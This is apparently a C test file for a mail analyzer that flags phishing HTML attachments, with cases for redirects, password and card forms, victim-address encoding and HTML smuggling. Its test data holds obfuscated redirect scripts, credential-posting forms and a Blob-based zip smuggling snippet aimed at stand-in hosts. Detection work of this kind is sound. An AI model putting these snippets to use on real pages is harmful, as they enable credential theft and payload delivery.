/* Attached pages: where they lead at once, what their scripts write and hide, whom
 * they were made for.  Nothing is run; hosts end in .example. */
#include "look.h"
#include <time.h>
#include "../../analyzer/observe/page.h"

/* --- where a script leads --- */

static const struct { const char *js, *url; } leads[] = {
	{ "location.href='https://a.example/'", "https://a.example/" },
	{ "window.location = \"https:\\/\\/a.example\\/x\";", "https://a.example/x" },
	{ "top['location']['href'] = 'https://a.example/'", "https://a.example/" },
	{ "window[\"location\"].replace('//a.example/')", "//a.example/" },
	{ "document.location.assign(`https://a.example/#${mail}`)", "https://a.example/#" },
	{ "var u='https://a.example/';location.replace(u+'#x')", "https://a.example/" },
	{ "(function(){ if (1) { location.href='https://a.example/' } })()", "https://a.example/" },
	{ "!function(){location='https://a.example/'}()", "https://a.example/" },
	{ "setTimeout(function(){ window.location.href='https://a.example/'; }, 500)", "https://a.example/" },
	{ "setTimeout(() => { location.href='https://a.example/' }, 1)", "https://a.example/" },
	{ "setTimeout(() => location.href='https://a.example/', 1)", "https://a.example/" },
	{ "window.onload = function () { location.href='https://a.example/' }", "https://a.example/" },
	{ "addEventListener('DOMContentLoaded', async () => { location='https://a.example/' })",
	    "https://a.example/" },
	{ "function go(){location.href='https://a.example/'} go();", "https://a.example/" },
	{ "function go(){location.href='https://a.example/'} setTimeout(go, 10)", "https://a.example/" },
	{ "const go = () => { location.href='https://a.example/' }; go()", "https://a.example/" },
	{ "/* it's */ x = /[\"']/; location.href='https://a.example/'", "https://a.example/" },
	/* what waits, and what leads nowhere else */
	{ "function go(){location.href='https://a.example/'}", "" },
	{ "b.onclick = function(){ location.href='https://a.example/' }", "" },
	{ "b.onclick = () => location.href='https://a.example/'", "" },
	{ "b.addEventListener('click', () => { location.href='https://a.example/' })", "" },
	{ "function go(){location.href='https://a.example/'} b.onclick = function(){ go() }", "" },
	{ "<!--\n function go(){location.href='https://a.example/'}\n//-->", "" },
	{ "x = { go() { location.href='https://a.example/' } }", "" },
	{ "if (location == 'https://a.example/') x()", "" },
	{ "location.hash = '#x'; location.reload(); location.href = '#top'", "" },
	{ "var location = 'https://a.example/'", "" },
	{ "shop.location = 'https://a.example/'", "" },
	{ "x = \"location.href='https://a.example/'\"", "" },
	{ "// location.href='https://a.example/'\n", "" },
};

static void
goes(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof leads / sizeof *leads; i++) {
		struct sk_page_goes g = { .n = 0 };
		struct sk_span url;

		sk_page_goes(sk_span_text(leads[i].js), arena, &g);
		url = g.n == 0 ? (struct sk_span){ 0 } : g.url[0];
		if (!sk_span_is(url, leads[i].url))
			fail_msg("%s gave \"%.*s\"", leads[i].js, SK_FMT(url));
	}
}

static void
goes_else(void **state)
{
	struct sk_page_goes g = { .n = 0 };

	(void)state;
	sk_page_goes(SK_SPAN("document.forms[0].submit()"), arena, &g);
	assert_true(g.submits);
	g = (struct sk_page_goes){ .n = 0 };
	sk_page_goes(SK_SPAN("function f(){document.forms[0].submit()}"), arena, &g);
	assert_false(g.submits);
	sk_page_goes(SK_SPAN("location.href='data:application/zip;base64,UEsDBA=='"), arena, &g);
	assert_true(g.drops && g.n == 0);
}

/* --- a page as it is attached --- */

static size_t
attached(enum sk_type type, const char *page)
{
	size_t self;

	look_new();
	(void)sk_record_text(tree.record, 0, SK_KEY_HEADER_TO, SK_SPAN("hanako@victim.example"));
	(void)sk_record_number(tree.record, 0, SK_KEY_MESSAGE_PRESENT, 1);
	self = look_part(type, type == SK_TYPE_SVG ? "image/svg+xml" : "text/html", "utf-8",
	    sk_span_text(page), false);
	(void)look_with("html", self);
	(void)look_with("page", self);
	return self;
}

static const struct { const char *page, *host; } redirects[] = {
	{ "<meta http-equiv=refresh content='0; url=https://r.example/x'>", "r.example" },
	{ "<meta http-equiv=Refresh content='3;URL=\"https://r.example/x\"'>", "r.example" },
	{ "<meta http-equiv=refresh content='60; url=https://r.example/x'>", "" },
	{ "<body onload=\"location.href='https://r.example/'\">", "r.example" },
	{ "<img src=x onerror=\"window.location='https://r.example/'\">", "r.example" },
	{ "<a onclick=\"location.href='https://r.example/'\">続ける</a>", "" },
	{ "<form action='https://r.example/'><input type=hidden name=a></form><script>"
	    "document.forms[0].submit()</script>", "r.example" },
	{ "<iframe src='https://r.example/' style='width:100%'></iframe>", "r.example" },
	{ "<p>本日の会場の地図は次のとおりです。当日は正面玄関からお入りください。受付は一階です。</p>"
	    "<iframe src='https://r.example/'></iframe>", "" },
	{ "<script>document.write('<meta http-equiv=\"refresh\" content=\"0;url=https://r.example/\">')"
	    "</script>", "r.example" },
	{ "<script>document.write(unescape('%3Cscript%3Elocation.href%3D%22https%3A%2F%2Fr.example%2F%22"
	    "%3C%2Fscript%3E'))</script>", "r.example" },
	{ "<script>window.location.href = atob('aHR0cHM6Ly9yLmV4YW1wbGUvbG9naW4=')</script>", "r.example" },
	{ "<script>var a=[104,116,116,112,115,58,47,47,114,46,101,120,97,109,112,108,101,47];"
	    "location.replace(String.fromCharCode.apply(null,a))</script>", "r.example" },
	{ "<iframe srcdoc=\"&lt;script&gt;top.location='https://r.example/'&lt;/script&gt;\"></iframe>",
	    "r.example" },
	{ "<embed src='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PnRvcC5sb2NhdGlvbi5ocmVmPSJodHRwczovL3IuZXhhbXBsZS8iPC9zY3JpcHQ+PC9zdmc+'>",
	    "r.example" },
	{ "<object data='data:text/html,%3Cscript%3Elocation=%22https://r.example/%22%3C/script%3E'>",
	    "r.example" },
	{ "<p>no script</p>", "" },
};

static void
redirect(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof redirects / sizeof *redirects; i++) {
		const char *got;

		got = look_all(attached(SK_TYPE_HTML, redirects[i].page), SK_KEY_HTML_REDIRECT);
		if (strcmp(got, redirects[i].host) != 0)
			fail_msg("%s gave \"%s\"", redirects[i].page, got);
	}
}

/* --- forms --- */

static const struct { const char *page, *form, *card; } forms[] = {
	{ "<form action='https://f.example/'><input type=password></form>", "f.example", "" },
	{ "<input type=password><script>fetch('https://f.example/x',{method:'POST'})</script>", "f.example", "" },
	{ "<script>document.write('<form action=\"https://f.example/\"><input type=\\'password\\'></form>')</script>",
	    "f.example", "" },
	{ "<script>document.body.innerHTML = unescape('%3Cform action%3D%22https%3A%2F%2Ff.example%2F%22%3E"
	    "%3Cinput type%3Dpassword%3E')</script>", "f.example", "" },
	{ "<script>document.write(atob('PGZvcm0gYWN0aW9uPSJodHRwczovL2YuZXhhbXBsZS8iPjxwPuODkeOCueODr+ODvOODiTxpbnB1dCB0eXBlPXBhc3N3b3JkPg=='))</script>",
	    "f.example", "" },
	{ "<script>var i=document.createElement('input'); i.type='password'; "
	    "$.post('https://f.example/p', i.value)</script>", "f.example", "" },
	{ "<form action='https://f.example/'><input name=passwd style='-webkit-text-security:disc'></form>",
	    "f.example", "" },
	{ "<form><input type=password></form>", "unknown", "" },
	{ "<form action='https://f.example/'>カード番号<input name=n1><br>有効期限<input name=n2></form>", "", "f.example" },
	{ "<form action='https://f.example/'><table><tr><td>暗証番号</td><td><input type=password></td></tr></table></form>",
	    "f.example", "f.example" },
	{ "<form action='https://f.example/'><input autocomplete=cc-number></form>", "", "f.example" },
	{ "<form action='https://f.example/'><input placeholder='セキュリティ コード'></form>", "", "f.example" },
	{ "<form action='https://f.example/'>お名前<input name=name>部署<input name=section></form>", "", "" },
	{ "<form action='https://f.example/'>カード番号の控え<br>備考を以下の欄にご記入ください。<input name=q></form>", "", "" },
	{ "<form action='https://f.example/'><input type=hidden name=password value=x></form>", "", "" },
};

static void
secrets(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
		size_t self = attached(SK_TYPE_HTML, forms[i].page);

		if (strcmp(look_all(self, SK_KEY_HTML_FORM), forms[i].form) != 0 ||
		    strcmp(look_all(self, SK_KEY_HTML_CARD), forms[i].card) != 0)
			fail_msg("%s gave \"%s\", \"%s\"", forms[i].page,
			    look_all(self, SK_KEY_HTML_FORM), look_all(self, SK_KEY_HTML_CARD));
	}
}

/* --- whom it was made for --- */

static const struct { const char *page; unsigned way; } named[] = {
	{ "<script>var e='Hanako@Victim.example'</script>", 1 },
	{ "<form><input type=hidden value='hanako@victim.example'></form>", 1 },
	{ "<script>var e=atob('aGFuYWtvQHZpY3RpbS5leGFtcGxl')</script>", 2 },
	{ "<a href='https://p.example/#aGFuYWtvQHZpY3RpbS5leGFtcGxl'>x</a>", 2 },
	{ "<a href='https://p.example/#hanako@victim.example'>x</a>", 1 },
	{ "<meta http-equiv=refresh content='0;url=https://p.example/?e=hanako%40victim.example'>", 2 },
	{ "<p>hanako@victim.example</p>", 0 },
	{ "<a href='https://p.example/unsubscribe?e=hanako@victim.example'>x</a>", 0 },
	{ "<a href='mailto:hanako@victim.example'>x</a>", 0 },
	{ "<script>var e='taro@victim.example'</script>", 0 },
};

static void
recipients(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof named / sizeof *named; i++) {
		size_t self = attached(SK_TYPE_HTML, named[i].page);

		if (sk_record_count(tree.record, self, SK_KEY_HTML_RECIPIENT) != named[i].way)
			fail_msg("%s", named[i].page);
	}
	/* The text of the mail: a link only. */
	for (unsigned i = 0; i < 2; i++) {
		size_t self;

		look_new();
		(void)sk_record_text(tree.record, 0, SK_KEY_HEADER_TO, SK_SPAN("hanako@victim.example"));
		self = look_part(SK_TYPE_HTML, "text/html", "utf-8", sk_span_text(i == 0 ?
		    "<a href='https://p.example/#hanako@victim.example'>x</a>" :
		    "<script>'hanako@victim.example'</script>"), true);
		(void)look_with("page", self);
		assert_int_equal(sk_record_count(tree.record, self, SK_KEY_HTML_RECIPIENT), i == 0);
		assert_int_equal(sk_record_count(tree.record, self, SK_KEY_HTML_SCRIPT), 0);
	}
}

/* --- what is hidden, and what is script --- */

static const struct { const char *page, *words; } hidden[] = {
	{ "<script>eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly9yLmV4YW1wbGUvIjs='))</script>", "redirect" },
	{ "<script>u = atob('aHR0cHM6Ly9yLmV4YW1wbGUvbG9naW4=')</script>", "url" },
	{ "<script>document.write('\\x3c\\x66\\x6f\\x72\\x6d\\x20\\x61\\x63\\x74\\x69\\x6f\\x6e\\x3d\\x78\\x3e')</script>", "form" },
	{ "<script>document.write(unescape('%3Cscript src=\\'' + h + 'google-analytics.com/ga.js\\' "
	    "type=\\'text/javascript\\'%3E%3C/script%3E'))</script>", "" },
	{ "<script>document.write('<script src=\"a.js\"><\\/script>')</script>", "" },
	{ "<script>var d = atob('eyJ4IjogMSwgInkiOiAiKGEpOyA9In0geyJ4IjogMiwgInkiOiAiKGIpIn0=')</script>", "" },
};

static void
hides(void **state)
{
	size_t self;

	(void)state;
	for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++) {
		self = attached(SK_TYPE_HTML, hidden[i].page);
		if (strcmp(look_all(self, SK_KEY_HTML_HIDES), hidden[i].words) != 0)
			fail_msg("%s gave \"%s\"", hidden[i].page, look_all(self, SK_KEY_HTML_HIDES));
	}
	self = attached(SK_TYPE_SVG, "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[ var x = 1; ]]></script></svg>");
	assert_true(sk_record_count(tree.record, self, SK_KEY_HTML_SCRIPT) > 5);
	assert_true(sk_record_count(tree.record, self, SK_KEY_HTML_SCRIPT_ONLY) > 5);
	self = attached(SK_TYPE_SVG, "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'><animate attributeName='r' dur='1s'/></circle></svg>");
	assert_int_equal(sk_record_count(tree.record, self, SK_KEY_HTML_SCRIPT), 0);
	self = attached(SK_TYPE_HTML, "<script src='https://cdn.example/x.js'></script>");
	assert_int_equal(sk_record_count(tree.record, self, SK_KEY_HTML_SCRIPT_ONLY), 1);
}

static void
smuggling(void **state)
{
	static char page[4096];
	char *p = stpcpy(page, "<script>var d = ''");
	size_t self;

	(void)state;
	/* Pieces of base64, each too short to be seen as data, and names put together. */
	for (int i = 0; i < 40; i++)
		p = stpcpy(p, "+'UEsDBBQAAAAIAGx9Rk4mZ+a1'");
	(void)stpcpy(p, ";var f=new Blob([atob(d)]);navigator['msSave'+'OrOpenBlob'](f,'x.zip')</script>");
	self = attached(SK_TYPE_HTML, page);
	assert_true(sk_record_count(tree.record, self, SK_KEY_HTML_SMUGGLING) >= 512);
}

/* --- cost --- */

static const struct { const char *before, *s; size_t times; } costly[] = {
	{ "<script>", "location=x;", 100000 },
	{ "<script>", "location='https://a.example/';", 50000 },
	{ "<script>", "function a(){location='https://a.example/'}", 30000 },
	{ "<script>", "a=>", 300000 }, { "<script>", "{(", 300000 }, { "<script>", "/*", 300000 },
	{ "<script>", "`", 300000 }, { "<script>", "'\n", 300000 }, { "<script>", "/[", 300000 },
	{ "<script>location", "   ", 300000 }, { "<script>", "location ", 100000 },
	{ "", "data:text/html,", 100000 }, { "", "data:text/html;base64,AAAA", 100000 },
	{ "<script>'", "<form ", 100000 }, { "<script>", "atob('aHR0cHM6Ly9hLmV4YW1wbGUv');", 20000 },
	{ "", "<a href='#hanako@victim.exampl'>", 20000 }, { "", "<input value='hanako@victim.exampl'>", 20000 },
	{ "", "<input name='card number'>カード", 30000 },
};

static void
cost(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof costly / sizeof *costly; i++) {
		char *text = malloc(strlen(costly[i].before) + strlen(costly[i].s) * costly[i].times + 1), *p = text;
		clock_t from = clock();
		double spent;

		assert_non_null(text);
		p = stpcpy(p, costly[i].before);
		for (size_t k = 0; k < costly[i].times; k++)
			p = stpcpy(p, costly[i].s);
		(void)attached(SK_TYPE_HTML, text);
		spent = (double)(clock() - from) / CLOCKS_PER_SEC;
		free(text);
		if (getenv("SHOW_COST") != NULL)
			printf("%6.3f s  %s%s\n", spent, costly[i].before, costly[i].s);
		if (spent > 8)
			fail_msg("%s%s took %f s", costly[i].before, costly[i].s, spent);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(goes), cmocka_unit_test(goes_else), cmocka_unit_test(redirect),
		cmocka_unit_test(secrets), cmocka_unit_test(recipients), cmocka_unit_test(hides),
		cmocka_unit_test(smuggling), cmocka_unit_test(cost),
	};

	return cmocka_run_group_tests(tests, look_begin, look_end);
}
